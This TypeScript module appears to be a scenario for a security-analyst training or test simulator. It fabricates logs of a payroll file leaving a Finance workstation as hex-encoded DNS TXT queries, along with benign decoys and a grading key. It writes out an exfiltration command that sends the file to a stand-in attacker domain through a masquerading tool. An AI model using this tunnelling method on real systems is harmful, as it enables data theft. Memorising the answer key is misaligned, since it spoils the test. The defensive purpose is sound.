// Scenario: a tool on a Finance workstation exfiltrates a payroll export through DNS: hundreds of
// TXT queries whose first label is hex-encoded data, under an attacker domain.
// Look-alike: the mail gateway's anti-virus looking attachment hashes up over DNS.
import { IMAGES } from '../core/binaries.js';
import { launch } from '../activity/process.js';
import { dnsLog } from '../sources/dns.js';
import { dnsQuery, fileCreate } from '../sources/sysmon.js';
import { ACTIONS, Story } from './story.js';
import { at, pickSession } from './common.js';
import { adminSysinternalsDownload, avHashLookups } from './lookalikes.js';
import type { Scenario } from './types.js';

const ZONE = 't.cdn-telemetry-sync.net';
const NS_IP = '203.0.113.53';

function hexOf(text: string): string {
  let out = '';
  for (let i = 0; i < text.length; i++) out += text.charCodeAt(i).toString(16).padStart(2, '0');
  return out;
}

export const dnsTunnelExfiltration: Scenario = {
  id: 'dns-tunnel-exfiltration',
  version: '1.0.0',
  title: 'Payroll export leaves through DNS TXT queries',
  summary: 'A renamed tunnelling tool sends a payroll file out as hex-encoded DNS labels to an attacker zone.',
  difficulty: 'hard',
  techniques: ['T1048.003', 'T1071.004', 'T1132.001', 'T1036.005'],
  start: '2026-03-18T00:00:00Z',
  hours: 24,
  build(ctx, sessions) {
    const { org, rng, world } = ctx;
    const s = new Story(org);
    const day = ctx.start;
    const t0 = at(day, 12, 41, 3);
    const victim = pickSession(rng, sessions, t0, (u) => u.department === 'Finance');
    s.involve(victim.user);
    const st = world.state(victim.host);
    const home = `C:\\Users\\${victim.user.sam}`;
    const tool = `${home}\\AppData\\Local\\Temp\\msedge_update.exe`;
    const file = `${home}\\Documents\\payroll_march_2026.csv`;
    const cmd = st.spawn(victim.explorer, IMAGES.cmd, 'cmd.exe /c', t0 - 30_000);
    launch(ctx, cmd, t0 - 30_000, s.emit);
    s.add(fileCreate(cmd, t0 - 25_000, file), 'export-file');
    const p = st.spawn(cmd, tool, `"${tool}" --dns ${ZONE} --file "${file}" --chunk 28`, t0, { contentLabel: 'dnstunnel' });
    launch(ctx, p, t0, s.emit, { key: 'tool-start' });
    const rows = ['employee_id,name,iban,salary', ...org.staff.slice(0, 40).map((u, i) => `${1000 + i},${u.displayName},GB${rng.int(10, 99)}NWBK${rng.int(10000000, 99999999)},${rng.int(24, 95)}000`)].join('\n');
    const chunks: string[] = [];
    for (let i = 0; i < rows.length && chunks.length < 90; i += 28) chunks.push(rows.slice(i, i + 28));
    let t = t0 + 1500;
    const session = rng.hex(4);
    chunks.forEach((chunk, i) => {
      const label = hexOf(chunk).slice(0, 56);
      const q = `${label}.${session}${String(i).padStart(3, '0')}.${ZONE}`;
      s.add(dnsQuery(p, t, q, []), i === 0 ? 'first-sysmon-dns' : undefined);
      const key = `q-${i}`;
      s.add(dnsLog(org.dc, t + 3, { srcIp: victim.host.ip, query: q, recordType: 'TXT', answers: ['"ok"'] }), key);
      s.alert('dns_long_subdomain', key, 'true_positive', `Hex-encoded data (chunk ${i}) sent in a DNS label to ${ZONE}.`);
      t += rng.int(2000, 9000);
    });
    const tEnd = t;

    avHashLookups(ctx, s, at(day, 9, 33, 0), 3);
    adminSysinternalsDownload(ctx, s, sessions, at(day, 15, 2, 11));

    const v = victim.user;
    s.verdictAndSeverity('true_positive', 'high', 'True positive: data exfiltration over DNS.');
    s.host('host-victim', 8, victim.host, `${victim.host.name}: source of the tunnelled queries.`);
    s.user('user-victim', 4, v, `${v.sam}'s session ran the tool.`);
    s.indicator('ioc-zone', 6, 'domain', [ZONE, 'cdn-telemetry-sync.net'], 'The attacker zone receiving the data.');
    s.indicator('ioc-tool', 4, 'file', [tool, 'msedge_update.exe'], 'Tunnelling tool masquerading as an Edge updater in Temp.');
    s.indicator('ioc-file', 4, 'file', [file, 'payroll_march_2026.csv'], 'The exfiltrated payroll export.');
    s.technique('T1048.003', 3, 'Exfiltration over an unencrypted non-C2 protocol.', ['T1048']);
    s.technique('T1071.004', 4, 'Application layer protocol: DNS.', ['T1071']);
    s.technique('T1132.001', 1, 'Standard encoding (hex).');
    s.timeline('tl-start', 3, t0, `${tool} started with --dns ${ZONE}.`, [['msedge_update', 'tool', 'started', 'executed', 'process']]);
    s.timeline('tl-tunnel', 4, t0 + 1500, `${chunks.length} TXT queries with hex labels to ${ZONE} until ${new Date(tEnd).toISOString().slice(11, 16)}.`, [['dns', 'tunnel', 'tunnelling', 'tunneling', 'txt', 'exfil', 'exfiltration']]);
    s.action('act-isolate', 5, `Isolate ${victim.host.name}.`, ACTIONS.isolate([victim.host.name.toLowerCase(), 'host', 'workstation', 'machine']));
    s.action('act-block', 4, `Block/sinkhole ${ZONE} on the resolvers.`, ACTIONS.block(['cdn-telemetry-sync.net', ZONE, 'domain', 'zone', 'dns']));
    s.action('act-privacy', 3, 'Involve privacy/DPO: payroll personal data left the company.', [['privacy', 'dpo', 'data protection', 'gdpr', 'legal', 'notify', 'notification'], ['payroll', 'personal data', 'breach', 'data']]);
    return {
      events: s.events, verdict: 'true_positive', severity: 'high', alerts: s.alerts, facts: s.facts, forbidden: s.forbidden,
      summary: `At ${new Date(t0).toISOString().slice(11, 16)} UTC ${tool} on ${victim.host.name} (${v.sam}) sent payroll_march_2026.csv out as ${chunks.length} DNS TXT queries `
        + `whose first label is hex-encoded file content, under ${ZONE} (authoritative server ${NS_IP}). Isolate the host, sinkhole the zone and involve privacy: `
        + 'salaries and bank details left the company. The long sophosxl.net queries from the mail gateway are anti-virus hash lookups; the admin\'s Sysinternals download is routine.',
    };
  },
};
